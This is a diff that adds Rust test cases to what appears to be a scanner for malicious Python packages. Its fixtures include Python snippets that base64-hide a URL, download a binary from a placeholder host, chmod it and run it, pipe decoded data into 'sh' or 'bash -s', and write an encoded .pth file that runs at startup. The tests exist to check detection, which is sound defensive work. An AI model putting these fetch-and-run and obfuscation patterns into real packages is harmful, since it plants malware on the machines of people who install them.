@@ -282,6 +282,27 @@ fn what_somebody_has_to_ask_for_is_told_by_its_other_end() {
 }
 
 #[test]
+fn whom_a_function_speaks_to_is_not_hidden() {
+    for (address, expected) in [
+        // `http://files.acme.example/x`, its twin in the open, and one of which only a parameter is decoded.
+        (
+            "base64.b64decode('aHR0cDovL2ZpbGVzLmFjbWUuZXhhbXBsZS94').decode()",
+            "critical",
+        ),
+        ("'http://files.acme.example/x'", ""),
+        (
+            "'http://files.acme.example/x?key=' + base64.b64decode(key).decode()",
+            "",
+        ),
+        ("base64.b64decode(key).decode()", ""),
+    ] {
+        let text =
+            format!("import base64, requests\ndef fetch(key):\n    return requests.get({address}).text\n");
+        assert_eq!(worst(&[("acme/__init__.py", &text)]), expected, "{text}");
+    }
+}
+
+#[test]
 fn files_are_sent_to_nobody_without_a_name() {
     for (address, expected) in [
         ("http://203.0.113.9/x", "critical"),
@@ -337,6 +358,68 @@ fn a_way_through_tests_is_no_way_of_the_package() {
     let tests = "from acme import launch\nlaunch('https://a.example/t')\n";
     let found = worst(&[("acme/__init__.py", run), ("tests/test_acme.py", tests)]);
     assert_ne!(found, "critical");
+}
+
+#[test]
+fn what_only_a_program_beside_the_package_calls_is_not_run_by_its_import() {
+    let net = "import httpx, os, subprocess\nURL = f'https://files.acme.example/tool-{os.name}'\nFILE = 'tool'\ndef get():\n    r = httpx.get(URL)\n    \
+               with open(FILE, 'wb') as f:\n        f.write(r.content)\n    os.chmod(FILE, 0o755)\n    subprocess.Popen([FILE, 'http'])\n";
+    let program = "import acme\nfrom acme.net import get\nget()\n";
+    let package = |init: &'static str| [("acme/__init__.py", init), ("acme/net.py", net)];
+    for (path, expected) in [
+        ("demo/chat/run.py", ""),
+        ("acme/chat/run.py", ""),
+        ("setup.py", "critical"),
+    ] {
+        let mut files = package("from . import net\n").to_vec();
+        files.push((path, program));
+        let found = worst(&files);
+        assert_eq!(found == "critical", expected == "critical", "{path}: {found}");
+    }
+    // Its own import does the same, whoever else does.
+    let mut files = package("from .net import get\nget()\n").to_vec();
+    files.push(("demo/chat/run.py", program));
+    assert_eq!(worst(&files), "critical");
+}
+
+#[test]
+fn what_a_program_reads_is_run_only_by_an_interpreter() {
+    for (command, expected) in [
+        ("[plugin]", ""),
+        ("['gpg', '--import']", ""),
+        ("['sh']", "critical"),
+        ("[sys.executable, '-']", "critical"),
+        ("'bash -s', shell=True", "critical"),
+    ] {
+        let text = format!(
+            "import base64, subprocess, sys, os\nplugin = os.environ['ACME_PLUGIN']\nsubprocess.run({command}, input=base64.b64decode('ZWNobyAx'))\n"
+        );
+        let found = worst(&[("acme/__init__.py", &text)]);
+        assert_eq!(found == "critical", expected == "critical", "{text}: {found}");
+    }
+}
+
+#[test]
+fn a_text_that_another_file_of_the_package_spells_out_is_not_hidden() {
+    let sync = "def write(path, data):\n    with open(path, 'wb') as f:\n        f.write(data)\n";
+    for (api, hidden) in [
+        (
+            "from .sync import write\ndef install(folder):\n    write(folder + '/_acme.pth', b'import _acme')\n",
+            false,
+        ),
+        (
+            "import base64\nfrom .sync import write\ndef install(folder):\n    write(folder + '/_acme.pth', base64.b64decode('aW1wb3J0IF9hY21l'))\n",
+            true,
+        ),
+    ] {
+        let found = judge(&[
+            ("acme/__init__.py", ""),
+            ("acme/sync.py", sync),
+            ("acme/api.py", api),
+        ]);
+        let told = found.iter().any(|f| f.message.contains("hidden in data"));
+        assert_eq!(told, hidden, "{api}: {found:?}");
+    }
 }
 
 #[test]
